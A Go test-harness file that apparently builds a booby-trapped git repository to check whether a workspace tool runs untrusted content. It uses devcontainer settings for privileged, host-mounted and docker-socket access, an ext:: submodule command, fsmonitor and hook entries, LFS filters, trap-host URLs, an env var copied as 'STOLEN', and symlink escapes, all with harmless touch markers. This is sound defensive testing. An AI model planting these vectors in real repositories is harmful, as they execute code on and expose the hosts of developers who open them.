package hostile

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// setBait makes the hostile repository: whatever in it is obeyed by who only looks at it, or makes a workspace of it.
func (w *world) setBait(ctx context.Context) error {
	dir := filepath.Join(w.options.Dir, "bait")
	if _, err := run(ctx, "", "git", "clone", "--quiet", w.cloneURL(trapped), dir); err != nil {
		return err
	}
	outside := filepath.Join(w.options.Dir, "outside")
	if err := w.setOutside(); err != nil {
		return err
	}
	touch := func(by string) string { return "touch " + filepath.Join(w.ownedDir(), "by-"+by) }
	write := func(name, text string) error {
		path := filepath.Join(dir, name)
		return errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o755)) //nolint:gosec // G306: hooks are programs
	}
	trap := "http://TRAP" // setTraps comes later: the address is filled in by spring
	hook := "#!/bin/sh\n" + touch("hook") + "\n"
	failed := []error{
		write(".devcontainer/devcontainer.json", `{
  // whatever a devcontainer may ask that reaches the host
  "build": {"dockerfile": "Dockerfile", "options": ["--network=host", "--build-context=x=/"], "cacheFrom": "sam-workspace:latest"},
  "initializeCommand": "`+touch("initialize")+`",
  "mounts": ["source=`+outside+`,target=/mnt/host,type=bind", "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],
  "workspaceMount": "source=`+outside+`,target=/workspace,type=bind", "workspaceFolder": "/workspace",
  "runArgs": ["--privileged", "--network=host", "--pid=host", "-v", "/:/mnt/root"],
  "privileged": true, "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined", "apparmor=unconfined"],
  "remoteUser": "root", "containerUser": "root", "containerEnv": {"STOLEN": "${localEnv:CANARY}"}, "appPort": ["0.0.0.0:9:9"],
  "features": {"./owned": {}}
}`),
		write(".devcontainer/Dockerfile", "FROM "+image+"\nLABEL "+labelRun+"="+w.options.Dir+"\nLABEL devcontainer.metadata='[{\"privileged\":true,\"initializeCommand\":\""+touch("label")+
			"\",\"mounts\":[\"source="+outside+",target=/mnt/label,type=bind\"],\"remoteUser\":\"root\"}]'\nENTRYPOINT [\"/bin/sh\", \"-c\", \""+touch("entrypoint")+"\"]\n"),
		write(".devcontainer/owned/devcontainer-feature.json", `{"id": "owned", "version": "1.0.0", "privileged": true, "capAdd": ["ALL"],
  "mounts": [{"source": "`+outside+`", "target": "/mnt/host", "type": "bind"}], "entrypoint": "`+touch("feature")+`"}`),
		write(".devcontainer/owned/install.sh", "#!/bin/sh\n"+touch("feature-install")+" || true\n"),
		write(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n*.md filter=owned\n"),
		write(".lfsconfig", "[lfs]\n\turl = "+trap+"/lfs\n[filter \"owned\"]\n\tsmudge = "+touch("lfsconfig")+"\n"),
		write("large.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:"+strings.Repeat("ab", 32)+"\nsize 12345\n"),
		write(".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = "+trap+"/sub.git\n\tupdate = checkout\n[submodule \"b\"]\n\tpath = b\n\turl = \"ext::"+touch("ext")+"\"\n[submodule \"c\"]\n\tpath = c\n\turl = file://"+outside+"\n"),
		write(".githooks/post-checkout", hook), write(".husky/post-checkout", hook), write("hooks/post-checkout", hook),
		write(".gitconfig", "[core]\n\tfsmonitor = "+touch("fsmonitor")+"\n\thooksPath = .githooks\n"),
		write(".envrc", touch("envrc")+"\n"), write("git/config", "[core]\n\tfsmonitor = "+touch("fsmonitor")+"\n"),
		os.Symlink("/etc", filepath.Join(dir, "etc-link")), os.Symlink(filepath.Join(outside, "canary"), filepath.Join(dir, "host-link")),
		os.Symlink(outside, filepath.Join(dir, "escape")), os.Symlink("../../../../../../../../"+outside, filepath.Join(dir, "climb")),
		os.Symlink(".git/hooks", filepath.Join(dir, "to-hooks")),
	}
	return errors.Join(failed...)
}

// spring fills in the traps' addresses and pushes the hostile repository.
func (w *world) spring(ctx context.Context) error {
	dir := filepath.Join(w.options.Dir, "bait")
	for _, name := range []string{".lfsconfig", ".gitmodules"} {
		path := filepath.Join(dir, name)
		text, err := os.ReadFile(path)
		if err == nil {
			err = os.WriteFile(path, []byte(strings.ReplaceAll(string(text), "http://TRAP", "http://"+w.traps["lfs"].address)), 0o600)
		}
		if err != nil {
			return fmt.Errorf("set the bait: %w", err)
		}
	}
	head, err := run(ctx, dir, "git", "rev-parse", "HEAD")
	if err != nil {
		return err
	}
	for _, args := range [][]string{
		{"add", "--all", "--force"},
		{"update-index", "--add", "--cacheinfo", "160000," + head + ",a"},
		{"update-index", "--add", "--cacheinfo", "160000," + head + ",b"},
		{"update-index", "--add", "--cacheinfo", "160000," + head + ",c"},
		{"-c", "user.name=Mallory", "-c", "user.email=mallory@example.com", "commit", "--quiet", "--no-verify", "-m", "Add a devcontainer"},
		{"push", "--quiet", "origin", "HEAD:main"},
	} {
		args = append([]string{"-c", "filter.lfs.clean=cat", "-c", "filter.lfs.process=", "-c", "filter.lfs.required=false"}, args...)
		if _, err := run(ctx, dir, "git", args...); err != nil {
			return err
		}
	}
	return nil
}
